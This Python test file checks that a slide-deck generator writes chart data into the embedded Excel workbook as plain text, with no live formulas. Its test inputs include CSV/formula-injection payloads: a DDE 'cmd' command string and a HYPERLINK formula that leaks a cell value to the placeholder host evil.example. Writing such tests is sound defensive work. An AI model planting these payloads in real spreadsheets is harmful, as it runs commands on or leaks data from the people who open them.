"""A native chart's embedded workbook ("Edit Data") holds what the data says as text: a cell
or an axis title that starts with '=' is never a live formula there (formula injection into
the workbook a colleague opens in Excel)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from pptx import Presentation

from deckgen.app import build

#: Cells of the data that Excel would run, or that would leak a neighbouring cell when clicked.
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&B3,"click me")',
           "+SUM(1,2)", "@SUM(1)", "http://evil.example/"]
AXIS = "=1+1"


def _deck(folder: Path, chart: str) -> Path:
    rows = "".join(f'"{name.replace(chr(34), chr(34) * 2)}",{n}\n'
                   for n, name in enumerate(HOSTILE, start=3))
    (folder / "areas.csv").write_text("area,count\n" + rows + "Plain,2\n", encoding="utf-8")
    (folder / "deck.yaml").write_text(f"""\
title: Formula test
chart_engine: native
data:
  areas: {{file: areas.csv}}
slides:
  - kind: chart
    title: Counts by area
    chart: {chart}
    data: areas
    x: area
    y: count
    axis_label: "{AXIS}"
""", encoding="utf-8")
    return build(folder / "deck.yaml", folder / f"{chart}.pptx").output


def _chart(pptx: Path):  # type: ignore[no-untyped-def]
    return next(sh.chart for s in Presentation(str(pptx)).slides for sh in s.shapes
                if sh.has_chart)


def _check_workbook(pptx: Path, series_name: str) -> None:
    import openpyxl

    chart = _chart(pptx)
    blob = chart.part.chart_workbook.xlsx_part.blob
    with zipfile.ZipFile(io.BytesIO(blob)) as xlsx:
        for name in xlsx.namelist():
            if name.startswith("xl/worksheets/"):
                sheet = xlsx.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", sheet), f"a formula in {name}: {sheet}"
                assert "<hyperlink" not in sheet
        assert not any("hyperlink" in n.lower() for n in xlsx.namelist())
    cells = list(openpyxl.load_workbook(io.BytesIO(blob)).active.iter_rows(values_only=True))
    assert cells[0][1] == series_name  # the series' name, as typed
    # each category as typed, in the chart's order
    assert [row[0] for row in cells[1:]] == list(chart.plots[0].categories)
    assert sorted(row[0] for row in cells[1:]) == sorted([*HOSTILE, "Plain"])
    assert all(isinstance(row[1], (int, float)) for row in cells[1:])  # figures stay figures


def test_categories_and_axis_title_are_text_in_the_workbook(tmp_path: Path) -> None:
    pptx = _deck(tmp_path, "bar")
    _check_workbook(pptx, AXIS)
    chart = _chart(pptx)
    # the chart's own cached text is the literal text too
    assert sorted(chart.plots[0].categories) == sorted([*HOSTILE, "Plain"])
    assert chart.plots[0].series[0].name == AXIS
    assert chart.value_axis.axis_title.text_frame.text == AXIS


def test_a_pie_and_a_line_keep_their_names_as_text(tmp_path: Path) -> None:
    _check_workbook(_deck(tmp_path, "pie"), AXIS)
    _check_workbook(_deck(tmp_path, "line"), AXIS)
